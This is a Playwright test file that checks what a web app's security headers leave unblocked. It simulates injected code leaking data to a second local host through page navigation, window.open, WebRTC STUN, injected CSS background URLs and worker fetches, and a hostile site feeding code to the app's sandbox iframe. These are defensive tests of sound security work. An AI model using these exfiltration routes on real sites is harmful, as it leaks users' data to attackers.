/** What no policy of the page stops, as SECURITY.md says: where one of these fails, the line is out of date. */
import { createSocket } from 'node:dgram'
import { fileURLToPath } from 'node:url'
import { expect, type Page, test } from '@playwright/test'
import { openHost, productHeaders } from './support/host'

const dist = fileURLToPath(new URL('../dist', import.meta.url))

/** The product with its headers or without, and another host beside it. */
async function openBoth(page: Page, isWithHeaders: boolean) {
  const own = await openHost({ folder: dist, ...(isWithHeaders ? { headers: productHeaders() } : {}) })
  const other = await openHost({ folder: dist })
  await page.goto(own.url)
  await expect(page.getByRole('banner')).toBeVisible()
  return {
    other: other.url,
    asked: () => other.asked,
    close: () => Promise.all([own.close(), other.close()]),
  }
}

for (const way of ['location', 'window.open'])
  test(`code in the page leaves it by ${way}, with what it found`, async ({ page }) => {
    const { other, asked, close } = await openBoth(page, true)
    await page.evaluate(
      ([url = '', how]) => {
        if (how === 'location') location.href = url
        else open(url)
      },
      [`${other}found?key`, way],
    )
    await expect.poll(asked).toContainEqual(expect.stringContaining('found'))
    await close()
  })

test('code in the page sends by WebRTC', async ({ page }) => {
  const { close } = await openBoth(page, true)
  const socket = createSocket('udp4')
  let packets = 0
  socket.on('message', () => packets++)
  await new Promise<void>((done) => socket.bind(0, '127.0.0.1', done))
  await page.evaluate(async (port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel('a')
    await connection.setLocalDescription(await connection.createOffer())
  }, socket.address().port)
  await expect.poll(() => packets).toBeGreaterThan(0)
  socket.close()
  await close()
})

/** A page of another host with the product's frame for test code in it; it asks the frame for a worker and gives that worker code. */
async function frameSandbox(page: Page, isWithHeaders: boolean) {
  const own = await openHost({ folder: dist, ...(isWithHeaders ? { headers: productHeaders() } : {}) })
  const other = await openHost({
    folder: dist,
    rewrite: (file, text) => (file.endsWith('index.html') ? '<!doctype html><title>other</title>' : text),
  })
  // The site has a secret in its storage, and the frame of it could only be of use with that or with a network.
  await page.goto(own.url)
  await page.evaluate(() => localStorage.setItem('secret', 'kept'))
  await page.goto(other.url)
  const said = await page.evaluate(
    async ([sandbox, server, limit]) => {
      const code = `const port = new Promise((go) => { onmessage = (event) => go(event.ports[0]) })
        const said = { origin: self.origin, storage: typeof localStorage, databases: '', fetched: '' }
        const all = async () => {
          said.databases = await new Promise((go) => { try { const open = indexedDB.open('hunkscope'); open.onsuccess = () => go('opened'); open.onerror = () => go('refused') } catch { go('refused') } })
          said.fetched = await fetch('${server}reached').then(() => 'reached', () => 'refused')
          ;(await port).postMessage(said)
        }
        void all()`
      const frame = document.createElement('iframe')
      frame.src = sandbox
      document.body.append(frame)
      await new Promise((done) => {
        frame.onload = done
      })
      const channel = new MessageChannel()
      frame.contentWindow?.postMessage('hunkscope:connect', '*', [channel.port2])
      channel.port1.postMessage({ type: 'guest', text: code })
      const worker = new MessageChannel()
      channel.port1.postMessage({ type: 'start', id: 1 }, [worker.port2])
      return new Promise((done) => {
        worker.port1.onmessage = (event) => done(event.data)
        setTimeout(() => done('nothing'), limit)
      })
    },
    [`${own.url}sandbox.html`, other.url, isWithHeaders ? 2000 : 60_000] as const,
  )
  const reached = other.asked.filter((path) => path.includes('reached'))
  await Promise.all([own.close(), other.close()])
  return { said, reached }
}

test("another site frames the sandbox where a host sends no headers, and gets neither this site's storage nor a network; with the headers it frames nothing", async ({
  page,
}) => {
  expect(await frameSandbox(page, false)).toEqual({
    said: { origin: 'null', storage: 'undefined', databases: 'refused', fetched: 'refused' },
    reached: [],
  })
  expect(await frameSandbox(page, true)).toEqual({ said: 'nothing', reached: [] })
})

test('a style that is put into the page hides something, and asks for nothing', async ({ page }) => {
  const { other, asked, close } = await openBoth(page, true)
  const banner = page.getByRole('banner')
  await page.evaluate((url) => {
    const style = document.createElement('style')
    style.textContent = `header { visibility: hidden; background: url(${url}seen.png) } body { background: url(${url}seen.png) }`
    document.head.append(style)
  }, other)
  await expect(banner).toBeHidden()
  expect(await page.evaluate(() => getComputedStyle(document.body).backgroundImage)).toContain('seen.png')
  expect(asked()).toEqual([])
  await close()
})

for (const isWithHeaders of [true, false])
  test(`a worker of the page's own files asks another host: ${isWithHeaders ? 'not with the headers' : 'where a host sends none'}`, async ({
    page,
  }) => {
    const { other, asked, close } = await openBoth(page, isWithHeaders)
    await expect.poll(() => page.workers().length).toBeGreaterThan(0)
    const [worker] = page.workers()
    await worker?.evaluate((url) => fetch(`${url}asked`, { mode: 'no-cors' }).catch(() => null), other)
    expect(asked().some((path) => path.includes('asked'))).toBe(!isWithHeaders)
    await close()
  })
